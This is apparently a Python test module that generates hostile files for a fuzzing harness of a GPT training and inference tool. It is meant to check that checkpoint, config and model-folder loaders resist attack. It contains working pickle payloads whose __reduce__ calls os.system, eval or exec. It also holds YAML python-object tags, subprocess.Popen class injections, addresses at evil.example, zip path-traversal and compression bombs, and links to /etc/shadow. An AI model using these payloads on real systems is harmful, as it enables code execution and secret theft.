"""Hostile files for `torture.py`: they try to run code, to reach another machine, or to exhaust memory.

`cases` lists them. Each case writes its files into a folder and returns the path to give to a `gpt` command.
"""

import io
import json
import os
import pickle
import random
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from itertools import product
from pathlib import Path
from typing import Any

import torch
import yaml
from faults.rewritten import rewritten, with_run

from gpt.weights.checkpoint import read

PWN = "echo pwned > pwned"
POPEN = {"class_path": "subprocess.Popen", "init_args": {"args": PWN, "shell": True}}
HUGE = 1_000_000_000

# How commands are given a path. Those of one group read the same kinds of files.
RESUMING = ("fit --resume {}", "fit --data.corpus text.txt --ckpt_path {}", "validate --ckpt_path {}")
LOADING = (
    "generate --prompt a --max_new_tokens 1 --checkpoint {}",
    "evaluate --data text.txt --checkpoint {}",
    "attention --text a --output maps --checkpoint {}",
    "probabilities --text a --output p.png --checkpoint {}",
    "serve --port 0 --checkpoint {}",
    "export --format hf --output exported --checkpoint {}",
    "import {} --output imported",
    "fit --data.corpus text.txt --trainer.max_steps 1 --model.init_from {}",
)


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """One hostile input."""

    name: str
    command: str
    """The `gpt` command, with {} for the path."""
    write: Callable[[Path, Path], Path]
    """Writes the files into its second argument, given the folder of an intact run; returns the path."""


def cases() -> list[Hostile]:
    """Every kind of file with every group of commands that reads it."""
    found: list[Hostile] = []

    def add(kind: str, files: dict[str, Callable[[Path, Path], Path]], commands: tuple[str, ...]) -> None:
        for number, (name, write) in enumerate(files.items()):
            command = commands[number % len(commands)]
            found.append(Hostile(name=f"{kind}: {name}", command=command, write=write))

    saved = {name: partial(_with_options, options=options) for name, options in hostile_options().items()}
    copied = {name: partial(_as_config, options=options) for name, options in hostile_options().items()}
    add("saved options", saved, RESUMING)
    add("copied config.yaml", copied, ("fit --config {}",))
    for number, command in enumerate((*RESUMING, *LOADING)):  # every command meets every third pickle
        some = dict(list(_pickles().items())[number % 3 :: 3])
        add("pickle", some, (command,))
    add("archive", _archives(), (*RESUMING, *LOADING))
    add("tensors", _tensors(), (*RESUMING[:1], *LOADING))
    add("global_step", _steps(), RESUMING[:2])
    add("safetensors", _safetensors(), LOADING)
    add("folder", _folders(), LOADING)
    add("special file", _special_files(), (*RESUMING, *LOADING))
    return found


def hostile_options() -> dict[str, Any]:
    """Options that name a class, an address or a file, in every place and notation known to the parsers."""
    nested = {
        "class_path": "lightning.pytorch.strategies.DDPStrategy",
        "init_args": {"ddp_comm_state": POPEN},
    }
    groups = ("strategy", "logger", "callbacks", "plugins", "profiler", "accelerator", "model_registry")
    payloads: dict[str, Any] = {
        "a class": POPEN,
        "a class in a list": [POPEN],
        "a class inside a class": nested,
        "a function": "os.system",
        "a module beside the checkpoint": "evil_module.Evil",
        "a class without arguments": {"class_path": "evil_module.Evil"},
        "a short class name": {"class_path": "CSVLogger", "init_args": {"save_dir": "../../outside"}},
        "a class with free arguments": {"class_path": "evil_module.Evil", "dict_kwargs": {"x": 1}},
    }
    options: dict[str, Any] = {
        f"trainer.{group}, {name}": {"trainer": {group: payload}}
        for group, (name, payload) in product(groups, payloads.items())
    }
    places: dict[str, Callable[[Any], dict[str, Any]]] = {
        "model": lambda value: {"model": value},
        "model.config": lambda value: {"model": {"config": value}},
        "model.optimizer": lambda value: {"model": {"optimizer": value}},
        "data": lambda value: {"data": value},
        "data.corpus": lambda value: {"data": {"corpus": value}},
        "trainer": lambda value: {"trainer": value},
        "run": lambda value: {"run": value},
        "seed_everything": lambda value: {"seed_everything": value},
        "trainer.max_time": lambda value: {"trainer": {"max_time": value}},
        "trainer.devices": lambda value: {"trainer": {"devices": value}},
        "trainer.precision": lambda value: {"trainer": {"precision": value}},
    }
    values: dict[str, Any] = {
        "a class": POPEN,
        "a file of options": "evil.yaml",
        **{
            f"a {scheme} address": f"{scheme}://evil.example/evil.yaml"
            for scheme in ("http", "https", "ftp", "s3", "hf", "github", "ssh", "smb", "memory")
        },
        "a chain of addresses": "simplecache::zip://evil.yaml::https://evil.example/a.zip",
        "a path to another machine": "//evil.example/share/evil.yaml",
        "a hub name": "hub:evil/data",
    }
    harmless = {
        ("run", "a file of options"),
        ("data.corpus", "a file of options"),
    }  # a name, and a local file
    options |= {
        f"{place}, {name}": make(value)
        for (place, make), (name, value) in product(places.items(), values.items())
        if (place, name) not in harmless
    }
    dotted = ("trainer.strategy.class_path", "trainer.logger.init_args.save_dir", "model.class_path")
    options |= {f"{name}, dotted": {name: "subprocess.Popen"} for name in dotted}
    tags = (
        "!!python/object/apply:os.system ['echo pwned > pwned']",
        "!!python/object/new:os.system ['echo pwned > pwned']",
        "!!python/object:evil_module.Evil {}",
        "!!python/name:os.system",
        "!!python/module:evil_module",
        "!!python/tuple [1]",
        "!include evil.yaml",
        "!ENV ${HOME}",
    )
    options |= {f"the YAML tag {tag.split()[0]}": f"trainer: {tag}\n" for tag in tags}
    bomb = "a0: &a0 [x, x]\n" + "".join(
        f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 9)
    )
    options |= {
        "weights_only": {"weights_only": False},
        "trainer.weights_only": {"trainer": {"weights_only": False}},
        "an alias bomb": bomb + "trainer: *a8\n",
        "a cycle": "model: &a {config: *a}\n",
        "deep nesting": "trainer: " + "[" * 5000,
        "deep blocks": "".join(" " * i + "a:\n" for i in range(3000)),
        "a long text": "run: " + "x" * 1_000_000,
        "a large number": "seed_everything: " + "9" * 100_000,
        "control characters": 'run: "\\e[2J\\e]0;pwned\\a"\n',
        "not a text": 7,
        "bytes": b"trainer: {}",
    }
    return options


def _with_options(intact: Path, folder: Path, *, options: Any) -> Path:
    """A checkpoint of an intact run whose saved options are hostile."""
    _bait(folder)
    last = intact / "checkpoints" / "last.safetensors"
    if isinstance(options, dict):
        run = read(last).run
        options = {**(run.options if run else {}), **options}
    elif isinstance(options, bytes):
        options = options.decode()
    return with_run(last, folder / "evil.safetensors", {"options": options})


def _as_config(intact: Path, folder: Path, *, options: Any) -> Path:
    """A hostile config.yaml."""
    _bait(folder)
    path = folder / "config.yaml"
    if isinstance(options, dict):
        options = yaml.safe_dump(options)
    path.write_bytes(options if isinstance(options, bytes) else str(options).encode())
    return path


def _bait(folder: Path) -> None:
    """What hostile options refer to: a module that leaves a mark when imported, and a file of options."""
    (folder / "evil_module.py").write_text("open('pwned', 'w').close()\n", encoding="utf-8")
    (folder / "evil.yaml").write_text(yaml.safe_dump({"strategy": POPEN}), encoding="utf-8")


def _save(folder: Path, value: Any, name: str = "evil.pt", **options: Any) -> Path:
    torch.save(value, folder / name, **options)
    return folder / name


def _write(intact: Path, folder: Path, *, data: bytes, name: str = "evil.pt") -> Path:
    (folder / name).write_bytes(data)
    return folder / name


class Calls:
    """Calls a function when it is unpickled."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def _pickles() -> dict[str, Callable[[Path, Path], Path]]:
    calls = {
        "os.system": Calls(os.system, PWN),
        "eval": Calls(eval, "open('pwned', 'w')"),
        "exec": Calls(exec, "open('pwned', 'w')"),
        "getattr": Calls(getattr, Calls(__import__, "evil_module"), "x"),
        "open": Calls(open, "pwned", "w"),
        "torch.load": Calls(torch.load, "evil.pt"),
        "torch.hub": Calls(torch.hub.load, "evil/repository", "model"),
        "os.remove": Calls(os.remove, "text.txt"),
        "torch.frombuffer": Calls(torch.storage._load_from_bytes, pickle.dumps(Calls(os.system, PWN))),
    }
    files: dict[str, Callable[[Path, Path], Path]] = {}
    for (name, value), protocol in product(calls.items(), (0, 2, 4)):
        files[f"{name}, protocol {protocol}"] = partial(_write, data=pickle.dumps(value, protocol))
    for name, value in calls.items():
        files[f"{name} as a key of a checkpoint"] = partial(_inside, value=value)
    opcodes = {
        "an endless string": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"x.",
        "a large memo": b"\x80\x02]r" + struct.pack("<I", 0xFFFFFFF0) + b".",
        "a frame longer than the file": b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.",
        "a deep list": b"\x80\x02" + b"](" * 100_000 + b".",
        "a persistent id": b"\x80\x02X\x04\x00\x00\x00evilQ.",
        "a large integer": b"\x80\x02\x8b" + struct.pack("<i", 1 << 30) + b"\x00.",
        "an extension code": b"\x80\x02\x82\x01.",
        "a stack underflow": b"\x80\x02tbR.",
        "no stop": b"\x80\x02]",
        "the old torch header": pickle.dumps(0x1950A86A20F9469CFC6C, 2)
        + pickle.dumps(Calls(os.system, PWN), 2),
    }
    for name, data in opcodes.items():
        files[name] = partial(_write, data=data)
        files[f"{name}, in an archive"] = partial(_write, data=_archive({"archive/data.pkl": data}))
    return files


def _inside(intact: Path, folder: Path, *, value: Any) -> Path:
    return _save(folder, {"model_args": {}, "model": {}, "x": value})


def _archive(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return data.getvalue()


def _archives() -> dict[str, Callable[[Path, Path], Path]]:
    plain = pickle.dumps({"state_dict": {}}, 2)
    code = pickle.dumps(Calls(os.system, PWN), 2)
    names = (
        "../../pwned",
        "/tmp/pwned",
        "..\\..\\pwned",
        "archive/../../pwned",
        "archive/data/../../../pwned",
    )
    files: dict[str, Callable[[Path, Path], Path]] = {
        f"a member {name}": partial(_write, data=_archive({"archive/data.pkl": plain, name: b"x"}))
        for name in names
    }
    bomb = _archive({"archive/data.pkl": plain, "archive/data/0": bytes(200_000_000)}, zipfile.ZIP_DEFLATED)
    files |= {
        "a compression bomb": partial(_write, data=bomb),
        "code in constants.pkl": partial(
            _write, data=_archive({"m/data.pkl": plain, "m/constants.pkl": code})
        ),
        "code in a TorchScript archive": partial(
            _write, data=_archive({"m/data.pkl": code, "m/constants.pkl": code, "m/code/x.py": b"import os"})
        ),
        "two data.pkl": _two_members,
        "no data.pkl": partial(_write, data=_archive({"archive/version": b"3"})),
        "an empty archive": partial(_write, data=_archive({})),
        "100,000 members": partial(_write, data=_archive({f"archive/data/{i}": b"" for i in range(100_000)})),
    }
    fields = {
        "a size of 4 GB": (24, "<I", 0xFFFFFFFE),
        "a compressed size of 4 GB": (20, "<I", 0xFFFFFFFE),
        "an offset past the end": (42, "<I", 0xFFFFFF00),
        "a wrong checksum": (16, "<I", 1),
        "a long name": (28, "<H", 0xFFFF),
        "an unknown method": (10, "<H", 99),
        "an encryption flag": (8, "<H", 1),
    }
    files |= {
        f"a directory with {name}": partial(_patched, offset=offset, form=form, value=value)
        for name, (offset, form, value) in fields.items()
    }
    files |= {f"cut after {part} %": partial(_cut, part=part) for part in (1, 10, 50, 90, 99)}
    files |= {f"noise, seed {seed}": partial(_noise, seed=seed) for seed in range(20)}
    return files


def _archived(intact: Path, folder: Path) -> Path:
    """The weights of an intact run as nanoGPT saves them."""
    weights = read(intact / "checkpoints" / "last.safetensors").weights
    return _save(folder, {"model_args": {}, "model": dict(weights)})


def _two_members(intact: Path, folder: Path) -> Path:
    path = _archived(intact, folder)
    with zipfile.ZipFile(path, "a") as archive:
        name = next(name for name in archive.namelist() if name.endswith("data.pkl"))
        info = zipfile.ZipInfo(name)
        archive.writestr(info, pickle.dumps(Calls(os.system, PWN), 2))
    return path


def _patched(intact: Path, folder: Path, *, offset: int, form: str, value: int) -> Path:
    """An archive with one field of its directory replaced."""
    data = bytearray(_archived(intact, folder).read_bytes())
    entry = data.rindex(b"PK\x01\x02")
    struct.pack_into(form, data, entry + offset, value)
    return _write(intact, folder, data=bytes(data))


def _cut(intact: Path, folder: Path, *, part: int) -> Path:
    data = (intact / "checkpoints" / "last.safetensors").read_bytes()
    return _write(intact, folder, data=data[: len(data) * part // 100], name="evil.safetensors")


def _noise(intact: Path, folder: Path, *, seed: int) -> Path:
    """A checkpoint, or an archive, with altered bytes at its start."""
    chance = random.Random(seed)
    last = intact / "checkpoints" / "last.safetensors"
    data = bytearray((last if seed % 2 else _archived(intact, folder)).read_bytes())
    for _ in range(50):
        data[chance.randrange(4096)] = chance.randrange(256)
    return _write(intact, folder, data=bytes(data), name="evil.safetensors" if seed % 2 else "evil.pt")


def _tensors() -> dict[str, Callable[[Path, Path], Path]]:
    shapes = {
        f"{name} of a billion": {name: HUGE}
        for name in ("emb_dim", "num_layers", "vocab_size", "context_length")
    }
    files: dict[str, Callable[[Path, Path], Path]] = {
        name: partial(_with_shape, changes=changes)
        for name, changes in {
            **shapes,
            "a billion heads": {"num_heads": HUGE, "emb_dim": HUGE},
            "everything huge": dict.fromkeys(("emb_dim", "num_heads", "num_layers", "vocab_size"), HUGE),
            "a number as a text": {"emb_dim": "1e9"},
            "a number past 64 bits": {"emb_dim": 1 << 70},
            "a list": {"num_layers": [1] * 10},
            "an unknown field": {"__class__": "evil"},
        }.items()
    }
    tensors: dict[str, Callable[[], Any]] = {
        "a stride of zero": lambda: torch.zeros(1).expand(1 << 20, 1 << 20),
        "a stride of zero, 4-d": lambda: torch.zeros(1).expand(9999, 9999, 9999, 99),
        "no elements": lambda: torch.zeros(0, 1 << 40),
        "a sparse tensor": lambda: torch.sparse_coo_tensor(torch.zeros(2, 1), torch.ones(1), (HUGE, HUGE)),
        "complex numbers": lambda: torch.zeros(300, 32, dtype=torch.complex64),
        "booleans": lambda: torch.zeros(300, 32, dtype=torch.bool),
        "a meta tensor": lambda: torch.empty(1 << 30, 1 << 10, device="meta"),
        "a parameter": lambda: torch.nn.Parameter(torch.zeros(1)),
        "a list": lambda: [0.0] * 10,
        "text": lambda: "x" * 100,
    }
    files |= {f"{name} as the embedding": partial(_with_weight, make=make) for name, make in tensors.items()}
    return files


def _steps() -> dict[str, Callable[[Path, Path], Path]]:
    values = {
        "huge": 1 << 80,
        "a text": "x" * 1000,
        "a list": [3],
        "negative": -5,
        "not a number": float("nan"),
        "infinite": float("inf"),
    }
    return {name: partial(_with_run, key="step", value=value) for name, value in values.items()}


def _with_shape(intact: Path, folder: Path, *, changes: dict[str, Any]) -> Path:
    last = intact / "checkpoints" / "last.safetensors"
    config = {**read(last).model.config, **changes}
    return rewritten(last, folder / "evil.safetensors", model={"config": config})


def _with_weight(intact: Path, folder: Path, *, make: Callable[[], Any]) -> Path:
    return _save(folder, {"model_args": {}, "model": {"transformer.wte.weight": make()}})


def _with_run(intact: Path, folder: Path, *, key: str, value: Any) -> Path:
    return with_run(intact / "checkpoints" / "last.safetensors", folder / "evil.safetensors", {key: value})


SMALL = {
    "model_type": "gpt2", "vocab_size": 300, "n_positions": 16, "n_ctx": 16,
    "n_embd": 8, "n_layer": 1, "n_head": 2,
}  # fmt: skip


def _hf_folder(intact: Path, folder: Path, *, files: dict[str, bytes], **config: Any) -> Path:
    """A folder as transformers writes it, with hostile contents."""
    files = {"config.json": json.dumps({**SMALL, **config}).encode(), **files}
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return folder


def _header(value: Any, length: int | None = None, body: bytes = b"") -> bytes:
    """A safetensors file: the header's length, the header, the tensors."""
    text = value if isinstance(value, bytes) else json.dumps(value).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + body


def _safetensors() -> dict[str, Callable[[Path, Path], Path]]:
    def tensor(**changes: Any) -> dict[str, Any]:
        return {"wte.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16], **changes}}

    files = {
        "a header past the end": _header(b"{}", 1 << 40),
        "a header of 2**63 bytes": _header(b"{}", (1 << 63) + 1),
        "a header of 90 MB": _header(b"{" + b" " * 90_000_000 + b"}"),
        "a header that is a list": _header([]),
        "a deep header": _header(b'{"a":' * 10_000 + b"1" + b"}" * 10_000),
        "no header": b"",
        "offsets past the end": _header(tensor(data_offsets=[0, 1 << 40])),
        "negative offsets": _header(tensor(data_offsets=[-16, 0])),
        "reversed offsets": _header(tensor(data_offsets=[16, 0]), body=bytes(16)),
        "overlapping tensors": _header(
            {**tensor(), "b": {"dtype": "F32", "shape": [2, 2], "data_offsets": [8, 24]}}, body=bytes(24)
        ),
        "a shape that overflows": _header(tensor(shape=[1 << 40, 1 << 40]), body=bytes(16)),
        "a negative shape": _header(tensor(shape=[-1, -4]), body=bytes(16)),
        "a shape of texts": _header(tensor(shape=["a"]), body=bytes(16)),
        "an unknown type": _header(tensor(dtype="PICKLE"), body=bytes(16)),
        "metadata that is a list": _header({"__metadata__": [1], **tensor()}, body=bytes(16)),
        "a name twice": _header(
            b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},'
            b'"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', body=b"x"
        ),
        "a pickle": pickle.dumps(Calls(os.system, PWN)),
    }  # fmt: skip
    return {name: partial(_hf_folder, files={"model.safetensors": data}) for name, data in files.items()}


def _folders() -> dict[str, Callable[[Path, Path], Path]]:
    names = (
        "../outside.safetensors", "/etc/passwd", "..\\outside.bin", "a/../../x.bin", "", ".", "..",
        "x\x00.bin", "https://evil.example/x.bin", "file:///etc/passwd", "~/x.bin", "$HOME/x.bin",
        "a/b.bin", "CON", "\u202ex.bin",
    )  # fmt: skip
    files: dict[str, Callable[[Path, Path], Path]] = {}
    for kind, name in product(("model.safetensors", "pytorch_model.bin"), names):
        index = json.dumps({"weight_map": {"wte.weight": name}}).encode()
        files[f"{kind} index to {name!r}"] = partial(_hf_folder, files={f"{kind}.index.json": index})
    for size in ("vocab_size", "n_positions", "n_embd", "n_layer"):
        files[f"{size} of a billion"] = partial(
            _hf_folder, files={"model.safetensors": _header({})}, **{size: HUGE}
        )
    code = pickle.dumps(Calls(os.system, PWN))
    remote = {"auto_map": {"AutoModelForCausalLM": "evil_module.Evil", "AutoConfig": "evil/repository--x.Y"}}
    files |= {
        "code of a model": partial(_hf_folder, files={"evil_module.py": b"open('pwned', 'w')"}, **remote),
        "pytorch_model.bin with code": partial(_hf_folder, files={"pytorch_model.bin": code}),
        "model.pth with code": partial(_hf_folder, files={"model.pth": code}),
        "ckpt.pt with code": partial(_nanogpt, files={"ckpt.pt": code}),
        "meta.pkl with code": partial(_nanogpt, files={"ckpt.pt": b"", "meta.pkl": code}),
        "config.json, deep": partial(_raw_config, data=b"[" * 100_000),
        "config.json, a list": partial(_raw_config, data=b"[]"),
        "config.json, a large number": partial(_raw_config, data=b'{"n_embd": ' + b"9" * 100_000 + b"}"),
        "config.json, not a number": partial(_raw_config, data=b'{"model_type": "gpt2", "n_embd": NaN}'),
        "config.json, not UTF-8": partial(_raw_config, data=b"\xff\xfe\x00"),
        "config.json, control characters": partial(_raw_config, data=b'{"model_type": "\\u001b[2J\\u0007"}'),
    }
    return files


def _nanogpt(intact: Path, folder: Path, *, files: dict[str, bytes]) -> Path:
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return folder


def _raw_config(intact: Path, folder: Path, *, data: bytes) -> Path:
    return _hf_folder(intact, folder, files={"config.json": data, "model.safetensors": _header({})})


def _special_files() -> dict[str, Callable[[Path, Path], Path]]:
    """Files that never end, never begin, or are elsewhere."""

    def fifo(intact: Path, folder: Path) -> Path:
        os.mkfifo(folder / "evil.safetensors")
        return folder / "evil.safetensors"

    def link(intact: Path, folder: Path, *, target: str) -> Path:
        (folder / "evil.safetensors").symlink_to(target)
        return folder / "evil.safetensors"

    def sparse(intact: Path, folder: Path) -> Path:
        with (folder / "evil.safetensors").open("wb") as file:
            file.truncate(1 << 40)
        return folder / "evil.safetensors"

    files: dict[str, Callable[[Path, Path], Path]] = {}
    for number in range(len(RESUMING) + len(LOADING)):
        files |= {
            f"a FIFO {number}": fifo,
            f"a link to /dev/zero {number}": partial(link, target="/dev/zero"),
        }
        files[f"a sparse terabyte {number}"] = sparse
    files |= {
        f"a link to {target}": partial(link, target=target)
        for target in ("evil.safetensors", "/etc/shadow", "/proc/self/mem")
    }
    return files


def chosen(number: int, chance: random.Random) -> Iterator[Hostile]:
    """`number` cases in random order; every case once before one comes again."""
    remaining: list[Hostile] = []
    for _ in range(number):
        remaining = remaining or chance.sample(found := cases(), len(found))
        yield remaining.pop()
